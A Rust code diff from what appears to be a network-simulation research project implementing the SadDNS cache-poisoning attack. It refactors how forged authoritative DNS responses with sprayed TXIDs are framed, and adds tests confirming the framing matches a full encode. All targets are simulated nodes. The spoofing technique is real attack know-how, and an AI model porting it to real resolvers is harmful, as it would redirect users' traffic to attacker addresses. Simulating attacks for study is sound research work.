@@ -22,6 +22,7 @@ use crate::env::{QueryTrigger, VictimEnv};
 use crate::outcome::{AttackReport, FailureReason, PoisonMethod};
 use dns::prelude::*;
 use netsim::prelude::*;
+use netsim::udp::UDP_HEADER_LEN;
 use std::net::Ipv4Addr;
 
 /// Probes per scan batch — Linux's default **global** ICMP error budget of
@@ -80,6 +81,49 @@ impl SadDnsConfig {
             max_iterations: 3,
             full_txid_sweep: true,
         }
+    }
+}
+
+/// The spoofed response of the TXID spray, framed once. The 2^16 packets
+/// differ only in the DNS TXID (the first payload word) and the IP ID, so
+/// each is a pooled copy of the template with those two patched and the UDP
+/// checksum updated incrementally (RFC 1624) instead of summed again.
+struct SprayTemplate {
+    /// The response for TXID 0 with IP ID 0.
+    pkt: Ipv4Packet,
+    /// Its UDP checksum (UDP header bytes 6-7).
+    checksum: u16,
+}
+
+impl SprayTemplate {
+    /// The forged answer planting `malicious_addr` for `target_name`, with TXID 0.
+    fn response(cfg: &SadDnsConfig) -> Message {
+        let mut msg = Message::query(0, cfg.target_name.clone(), cfg.qtype);
+        msg.header.is_response = true;
+        msg.header.authoritative = true;
+        msg.answers.push(ResourceRecord::new(cfg.target_name.clone(), 3600, RData::A(cfg.malicious_addr)));
+        msg
+    }
+
+    fn new(cfg: &SadDnsConfig, nameserver: Ipv4Addr, resolver: Ipv4Addr, port: u16) -> Self {
+        let wire = Self::response(cfg).encode();
+        let pkt = UdpDatagram::new(nameserver, resolver, 53, port, wire).into_packet(0, 64);
+        let checksum = u16::from_be_bytes([pkt.payload[6], pkt.payload[7]]);
+        SprayTemplate { pkt, checksum }
+    }
+
+    /// The spoofed response carrying `txid` as its TXID and IP ID.
+    fn packet(&self, txid: u16) -> Ipv4Packet {
+        let mut payload = netsim::pool::take(self.pkt.payload.len());
+        payload.extend_from_slice(&self.pkt.payload);
+        payload[UDP_HEADER_LEN..UDP_HEADER_LEN + 2].copy_from_slice(&txid.to_be_bytes());
+        // A computed zero goes on the wire as all ones (RFC 768).
+        let checksum = match netsim::checksum::update(self.checksum, 0, txid) {
+            0 => 0xffff,
+            ck => ck,
+        };
+        payload[6..8].copy_from_slice(&checksum.to_be_bytes());
+        Ipv4Packet { header: Ipv4Header { identification: txid, ..self.pkt.header }, payload }
     }
 }
 
@@ -193,24 +237,10 @@ impl SadDnsAttack {
     fn spray_txids(&self, sim: &mut Simulator, env: &VictimEnv, port: u16) -> u64 {
         let cfg = &self.config;
         let space: u32 = if cfg.full_txid_sweep { 1 << 16 } else { 4096 };
-        // The 2^16 spoofed responses differ only in the DNS TXID (wire bytes
-        // 0-1) and the IP ID, so encode the message once and patch the TXID
-        // into a pooled copy per packet (with room for the UDP header, which
-        // `into_packet` writes in place) instead of re-encoding every time.
-        let mut template = Message::query(0, cfg.target_name.clone(), cfg.qtype);
-        template.header.is_response = true;
-        template.header.authoritative = true;
-        template.answers.push(ResourceRecord::new(cfg.target_name.clone(), 3600, RData::A(cfg.malicious_addr)));
-        let wire = template.encode();
-        // One train: each response is built only when it is delivered, so the
-        // spray's working set is one packet, not 2^16.
-        let (ns, resolver) = (env.nameserver_addr, env.resolver_addr);
-        sim.inject_train(env.attacker, space, move |txid| {
-            let mut payload = netsim::pool::take(wire.len() + netsim::udp::UDP_HEADER_LEN);
-            payload.extend_from_slice(&wire);
-            payload[..2].copy_from_slice(&(txid as u16).to_be_bytes());
-            UdpDatagram::new(ns, resolver, 53, port, payload).into_packet(txid as u16, 64)
-        });
+        // One train: each response is built from the template only when it
+        // is delivered, so the spray's working set is one packet, not 2^16.
+        let template = SprayTemplate::new(cfg, env.nameserver_addr, env.resolver_addr, port);
+        sim.inject_train(env.attacker, space, move |txid| template.packet(txid as u16));
         sim.run_for(Duration::from_millis(200));
         u64::from(space)
     }
@@ -434,7 +464,37 @@ mod tests {
         let recorded = SadDnsAttack::new(attack_cfg()).run(&mut sim_b, &env_b);
         assert!(sim_b.trace().packets().count() > 1 << 16, "the spray was traced");
         assert_eq!(plain, recorded, "recording must not perturb the attack");
+        // The untraced run delivers the spray in batches, the traced one
+        // packet by packet: the resolver, its ICMP limiter and every node's
+        // traffic must not tell them apart.
         assert_eq!(sim_a.counters(), sim_b.counters(), "nor the engine's work");
+        let (resolver_a, resolver_b) = (env_a.resolver(&sim_a), env_b.resolver(&sim_b));
+        assert_eq!(resolver_a.stats, resolver_b.stats);
+        let icmp = |r: &Resolver| (r.stack().icmp_limiter().allowed, r.stack().icmp_limiter().suppressed);
+        assert_eq!(icmp(resolver_a), icmp(resolver_b));
+        assert!(icmp(resolver_a).1 > 0, "the spray's tail hit a closed port after the ICMP budget ran out");
+        for i in 0..sim_a.node_count() {
+            assert_eq!(sim_a.stats(NodeId(i)), sim_b.stats(NodeId(i)), "traffic of {}", sim_a.node_name(NodeId(i)));
+        }
+    }
+
+    #[test]
+    fn spray_template_frames_every_txid_like_a_full_encode() {
+        let cfg = attack_cfg();
+        let port = 40123;
+        let template = SprayTemplate::new(&cfg, addrs::NAMESERVER, addrs::RESOLVER, port);
+        let mut msg = SprayTemplate::response(&cfg);
+        for txid in 0..=u16::MAX {
+            msg.header.id = txid;
+            let expected =
+                UdpDatagram::new(addrs::NAMESERVER, addrs::RESOLVER, 53, port, msg.encode()).into_packet(txid, 64);
+            let framed = template.packet(txid);
+            assert_eq!(framed.header, expected.header, "txid {txid}");
+            assert_eq!(framed.payload, expected.payload, "txid {txid}");
+            assert!(UdpDatagram::parse(&framed).is_ok(), "txid {txid}: the checksum verifies");
+            netsim::pool::give(framed.payload);
+            netsim::pool::give(expected.payload);
+        }
     }
 
     #[test]
